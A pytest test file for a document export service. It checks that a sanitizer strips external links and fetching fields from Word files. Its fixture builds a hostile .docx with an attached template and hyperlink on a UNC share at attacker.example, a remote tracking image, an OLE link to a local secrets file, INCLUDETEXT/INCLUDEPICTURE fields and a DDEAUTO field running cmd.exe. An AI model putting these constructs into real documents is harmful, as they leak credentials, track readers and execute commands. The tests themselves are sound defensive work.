"""An export never makes Word reach outside the file: external relationships (attached template,
linked image, OLE link, a file:// hyperlink) and INCLUDETEXT / INCLUDEPICTURE / DDEAUTO fields, in
their simple and complex forms, nested and in a header, are gone from every part of the exported
zip; the text Word last showed for a field stays, and so do ordinary http(s) hyperlinks."""
from __future__ import annotations

import io
import os
import re
import struct
import zipfile
import zlib

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from lxml import etree

from app.extensions import db
from app.exports import service
from app.exports.links import strip_external
from tests.conftest import login
from tests.documents.corpus import save
from tests.exports.wordcheck import corpus_dir, xml_parts

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS = (f'xmlns:w="{W_NS}" xmlns:r="{R_NS}" xmlns:v="urn:schemas-microsoft-com:vml" '
      'xmlns:o="urn:schemas-microsoft-com:office:office"')
OLE = RT.OLE_OBJECT
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
FETCHING_FIELD = re.compile(rb"INCLUDETEXT|INCLUDEPICTURE|DDEAUTO", re.I)


def png() -> bytes:
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def xml(fragment: str):
    return etree.fromstring(fragment)


def complex_field(instruction: str, result: str, nested: str = "") -> list:
    runs = [f'<w:r {NS}><w:fldChar w:fldCharType="begin"/></w:r>',
            f'<w:r {NS}><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>']
    if nested:
        runs += [f'<w:r {NS}><w:fldChar w:fldCharType="begin"/></w:r>',
                 f'<w:r {NS}><w:instrText xml:space="preserve"> FILENAME </w:instrText></w:r>',
                 f'<w:r {NS}><w:fldChar w:fldCharType="separate"/></w:r>',
                 f'<w:r {NS}><w:t>{nested}</w:t></w:r>',
                 f'<w:r {NS}><w:fldChar w:fldCharType="end"/></w:r>',
                 f'<w:r {NS}><w:instrText xml:space="preserve">" </w:instrText></w:r>']
    runs += [f'<w:r {NS}><w:fldChar w:fldCharType="separate"/></w:r>', f'<w:r {NS}><w:t>{result}</w:t></w:r>',
             f'<w:r {NS}><w:fldChar w:fldCharType="end"/></w:r>']
    return [xml(r) for r in runs]


def hostile_docx() -> bytes:
    d = docx.Document()
    d.add_heading("Findings", 1)
    d.add_paragraph("The refund queue had no owner for three weeks.")
    part = d.part
    # An attached template on a share.
    template = d.part._settings_part.relate_to("file://///attacker.example/share/evil.dotm", TEMPLATE, is_external=True)
    d.settings.element.append(xml(f'<w:attachedTemplate {NS} r:id="{template}"/>'))
    # A linked picture: the blip points outside.
    picture = d.add_paragraph().add_run()
    picture.add_picture(io.BytesIO(png()))
    linked = part.relate_to("http://attacker.example/track.png", RT.IMAGE, is_external=True)
    blip = picture._r.xpath(".//a:blip")[0]
    del blip.attrib[f"{{{R_NS}}}embed"]
    blip.set(f"{{{R_NS}}}link", linked)
    # An OLE link to a local file, shown through its preview picture.
    ole = part.relate_to("file:///C:/secrets/budget.xlsx", OLE, is_external=True)
    preview = picture._r.xpath(".//a:blip/..")[0]  # any internal image rel will do for the preview
    image_rid = next(r for r, rel in part.rels.items() if rel.reltype == RT.IMAGE and not rel.is_external)
    paragraph = d.add_paragraph("Budget: ")
    paragraph._p.append(xml(
        f'<w:r {NS}><w:object><v:shape id="_x0000_i1025" style="width:10pt;height:10pt"><v:imagedata r:id="{image_rid}"/></v:shape>'
        f'<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" DrawAspect="Content" r:id="{ole}" UpdateMode="Always">'
        f'<o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r>'))
    assert preview is not None
    # Hyperlinks: an ordinary one stays, a UNC path goes.
    web = part.relate_to("https://example.org/policy", RT.HYPERLINK, is_external=True)
    unc = part.relate_to("file://///attacker.example/share/x", RT.HYPERLINK, is_external=True)
    links = d.add_paragraph("See ")
    links._p.append(xml(f'<w:hyperlink {NS} r:id="{web}"><w:r><w:t>the policy</w:t></w:r></w:hyperlink>'))
    links._p.append(xml(f'<w:hyperlink {NS} r:id="{unc}"><w:r><w:t xml:space="preserve"> and the share</w:t></w:r></w:hyperlink>'))
    # Fields: simple, complex, nested, and one in the header.
    simple = d.add_paragraph("Included: ")
    simple._p.append(xml(f'<w:fldSimple {NS} w:instr=" INCLUDETEXT &quot;C:\\\\x.docx&quot; \\* MERGEFORMAT ">'
                         f'<w:r><w:t>included text</w:t></w:r></w:fldSimple>'))
    simple._p.append(xml(f'<w:fldSimple {NS} w:instr=\'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"\'>'
                         f'<w:r><w:t xml:space="preserve"> dde result</w:t></w:r></w:fldSimple>'))
    pictured = d.add_paragraph("Picture: ")
    for run in complex_field(' INCLUDEPICTURE "http://attacker.example/p.png" \\d ', "[picture]"):
        pictured._p.append(run)
    nested = d.add_paragraph("Nested: ")
    for run in complex_field(' includetext "', "nested result", nested="name.docx"):
        nested._p.append(run)
    kept = d.add_paragraph("Page ")
    for run in complex_field(" PAGE ", "1"):
        kept._p.append(run)
    header = d.sections[0].header.paragraphs[0]
    header.text = "Header: "
    for run in complex_field(' INCLUDETEXT "\\\\\\\\attacker.example\\\\h.docx" ', "header text"):
        header._p.append(run)
    d.add_heading("Actions", 1)
    d.add_paragraph("Assign an owner.")
    return save(d)


def assert_nothing_reaches_outside(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            blob = zf.read(name)
            assert not FETCHING_FIELD.search(blob), name
            assert b"attachedTemplate" not in blob and b'Type="Link"' not in blob and b"r:link=" not in blob, name
            assert b"file:" not in blob.lower() and b"attacker.example" not in blob, name
    for name, root in xml_parts(data).items():
        for rel in root.iter("{http://schemas.openxmlformats.org/package/2006/relationships}Relationship"):
            if rel.get("TargetMode") == "External":
                assert rel.get("Type") == RT.HYPERLINK and rel.get("Target").startswith(("http://", "https://", "mailto:")), (name, rel.attrib)
        used = {v for el in root.iter() if isinstance(el.tag, str) for k, v in el.attrib.items() if k.startswith(f"{{{R_NS}}}")}
        rels_name = "/".join([*name.split("/")[:-1], "_rels", name.split("/")[-1] + ".rels"])
        rels = xml_parts(data).get(rels_name)
        ids = set() if rels is None else {r.get("Id") for r in rels}
        assert used <= ids, (name, used - ids)  # nothing points at a relationship that is gone


def test_strip_external_leaves_nothing_that_fetches_and_keeps_the_text():
    original = hostile_docx()
    assert FETCHING_FIELD.search(zipfile.ZipFile(io.BytesIO(original)).read("word/document.xml"))
    cleaned = strip_external(original)
    assert_nothing_reaches_outside(cleaned)
    reopened = docx.Document(io.BytesIO(cleaned))
    text = "\n".join(p.text for p in reopened.paragraphs)
    for kept in ("included text", "dde result", "[picture]", "nested result", "Page 1", "the policy", "and the share"):
        assert kept in text, kept
    assert "name.docx" not in text  # the nested field sat in the instruction: gone with it
    assert reopened.sections[0].header.paragraphs[0].text == "Header: header text"
    body = zipfile.ZipFile(io.BytesIO(cleaned)).read("word/document.xml")
    assert b"https://example.org/policy" in zipfile.ZipFile(io.BytesIO(cleaned)).read("word/_rels/document.xml.rels")
    assert b"PAGE" in body  # a field that fetches nothing is left alone


def test_an_export_of_a_hostile_docx_contains_none_of_it(app, make_user):
    make_user("ann@example.com")
    client = app.test_client()
    client.csrf = login(client, "ann@example.com").get_json()["csrf_token"]
    doc = client.post("/api/documents", data={"file": (io.BytesIO(hostile_docx()), "hostile.docx")},
                      content_type="multipart/form-data", headers={"X-CSRFToken": client.csrf})
    assert doc.status_code == 201, doc.get_json()
    doc = doc.get_json()
    section = doc["sections"][0]
    made = client.post(f"/api/documents/{doc['id']}/feedback", json={"section_id": section["id"], "description": "Who?",
                                                                      "quote": "no owner for three weeks"},
                       headers={"X-CSRFToken": client.csrf})
    assert made.status_code == 201
    export_id = client.post(f"/api/documents/{doc['id']}/exports", json={"formats": ["docx"]},
                            headers={"X-CSRFToken": client.csrf}).get_json()["id"]
    with app.app_context():
        assert service.run_export(db.session, app.extensions["redis"], app.extensions["storage"], export_id,
                                  "Logs and data/") == "completed"
    url = client.get(f"/api/exports/{export_id}").get_json()["files"][0]["url"]
    data = client.get(url).get_data()
    assert_nothing_reaches_outside(data)
    assert len(docx.Document(io.BytesIO(data)).comments) == 1


def test_every_corpus_docx_comes_out_with_no_outside_target():
    root = corpus_dir()
    if root is None:
        assert not os.environ.get("CI"), "CI lays ../shared/corpus beside the clone"
        pytest.skip("no ../shared/corpus here (set SHARED_CORPUS)")
    changed = 0
    for path in sorted(root.rglob("*.docx")):
        data = path.read_bytes()
        try:
            docx.Document(io.BytesIO(data))
        except Exception:
            continue
        cleaned = strip_external(data)
        changed += cleaned != data
        docx.Document(io.BytesIO(cleaned))  # still opens
        for name, part in xml_parts(cleaned).items():
            for rel in part.iter("{http://schemas.openxmlformats.org/package/2006/relationships}Relationship"):
                if rel.get("TargetMode") == "External":
                    assert rel.get("Type") == RT.HYPERLINK, (path.name, name, rel.attrib)
    assert changed >= 1
